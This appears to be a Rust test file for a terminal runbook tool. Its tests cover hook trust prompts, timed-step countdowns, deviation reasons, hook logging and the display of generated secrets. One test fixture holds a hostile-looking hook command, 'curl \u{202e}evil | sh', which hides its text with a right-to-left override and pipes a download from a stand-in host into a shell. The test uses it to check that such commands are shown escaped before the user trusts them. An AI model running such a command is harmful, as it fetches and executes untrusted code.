//! What goes on without a key on the screen: the question of trust, a hook that is waited for, the clock of a timed step.

use crate::run::event::{Event, HookBegan};
use crate::runbook::HookPoint;
use crate::tui::fixture::{BOOK, Desk};
use crate::tui::msg::Msg;

const TIMED: &str = "# T\n\n## A\n\n- [ ] Monitor the error rate for 5 minutes\n- [ ] Ring the desk\n";

#[test]
fn what_would_run_by_itself_is_shown_word_for_word_and_later_has_the_focus() {
    let mut desk = Desk::new(BOOK, 120, 36);
    desk.undecided = vec!["before_run hook of runbook: curl \u{202e}evil | sh".to_owned()];
    desk.press("<space>j<space>jr");
    let shown = desk.shows();
    assert!(shown.contains("before_run hook of runbook: curl \\u{202e}evil | sh"), "{shown}");
    desk.press("<enter>");
    assert_eq!(desk.world.iter().filter(|act| act.starts_with("trust") || act.starts_with("start")).count(), 0);
    desk.press("rt");
    assert_eq!(desk.world.iter().filter(|act| act.starts_with("trust")).collect::<Vec<_>>(), ["trust Given"]);
    assert!(desk.world.iter().any(|act| act.starts_with("start")), "then the command runs: {:?}", desk.world);
    let mut without = Desk::new(BOOK, 120, 36);
    without.undecided = vec!["requires: psql is asked for its version".to_owned()];
    without.press("<space>j<space>jrw");
    assert!(without.world.contains(&"trust Refused".to_owned()), "{:?}", without.world);
}

#[test]
fn the_clock_of_a_timed_step_counts_down_and_can_be_paused() {
    let mut desk = Desk::new(TIMED, 120, 36);
    assert!(desk.shows().contains("lasts at least 5m00s: r begins its clock"), "{}", desk.shows());
    desk.press("r");
    desk.clock += 10;
    assert!(desk.shows().contains("left"), "{}", desk.shows());
    assert!(desk.run.soaks.values().all(crate::run::Soak::goes));
    desk.press("<C-c>");
    assert!(desk.shows().contains("paused,"), "{}", desk.shows());
    desk.press("r");
    desk.clock += 400;
    desk.send(Msg::Tick);
    assert!(desk.shows().contains("time over"), "{}", desk.shows());
    assert!(desk.notice().contains("its time is over; s signs it off"), "{}", desk.notice());
    assert_eq!(desk.world.iter().filter(|act| act.contains("its time is over")).count(), 1);
    desk.press("<space>");
    assert!(desk.states().contains("1.1 passed"), "{}", desk.states());
    assert_eq!(desk.run.deviations, []);
}

#[test]
fn ticking_a_timed_step_too_early_asks_why() {
    let mut desk = Desk::new(TIMED, 120, 36);
    desk.press("<space>");
    assert!(desk.shows().contains("it is to last 5m, and has lasted 0s"), "{}", desk.shows());
    desk.press("flat all day<enter>");
    assert!(desk.run.deviations[0].reason.starts_with("flat all day"), "{:?}", desk.run.deviations);
}

#[test]
fn the_log_tells_hooks() {
    let event = Event::HookBegan(HookBegan {
        hook: HookPoint::AfterStep,
        command: "./tell".to_owned(),
        from: "runbook".to_owned(),
        grounds: None,
        step: None,
    });
    assert_eq!(crate::tui::log::sentence(&event).1, "after_step hook: ./tell");
}

#[test]
fn a_generated_value_is_shown_from_memory_and_copied_on_a_key() {
    let book = "# T\n\n## A\n\n- [ ] Draw a key\n\n  ```sh\n  openssl rand -base64 18\n  ```\n";
    let mut desk = Desk::new(book, 120, 36);
    desk.press("w");
    assert!(desk.notice().contains("no generated value is held"), "{}", desk.notice());
    desk.press("ry");
    desk.prints("[redacted:generated]\n");
    desk.exits(0);
    desk.generated = desk.run.attempts.iter().map(crate::run::Attempt::id).collect();
    assert!(desk.shows().contains("generated value"), "the footer offers it: {}", desk.shows());
    desk.press("w");
    assert!(desk.shows().contains("c2VjcmV0LWZyb20tbWVtb3J5"), "{}", desk.shows());
    desk.press("<enter>");
    assert!(!desk.shows().contains("c2VjcmV0LWZyb20tbWVtb3J5"), "Enter hides it");
    assert!(!desk.world.iter().any(|act| act.contains("c2VjcmV0")), "nothing is copied by itself");
    desk.press("wy");
    assert!(desk.world.contains(&"copy \"c2VjcmV0LWZyb20tbWVtb3J5\"".to_owned()), "{:?}", desk.world);
    assert!(!desk.shows().contains("c2VjcmV0LWZyb20tbWVtb3J5"));
}

#[test]
fn all_of_what_would_run_can_be_read_on_a_small_screen() {
    let mut desk = Desk::new(BOOK, 60, 20);
    desk.undecided = (1..=30).map(|n| format!("after_step hook of runbook: ./hook-{n}")).collect();
    desk.press("<space>j<space>jrr");
    let mut seen = String::new();
    for _ in 0..8 {
        seen.push_str(&desk.shows());
        desk.press("<pgdn>");
    }
    for n in 1..=30 {
        assert!(seen.contains(&format!("./hook-{n} ")), "{n}: {seen}");
    }
    assert!(desk.shows().contains("lines above, PgUp"), "{}", desk.shows());
}
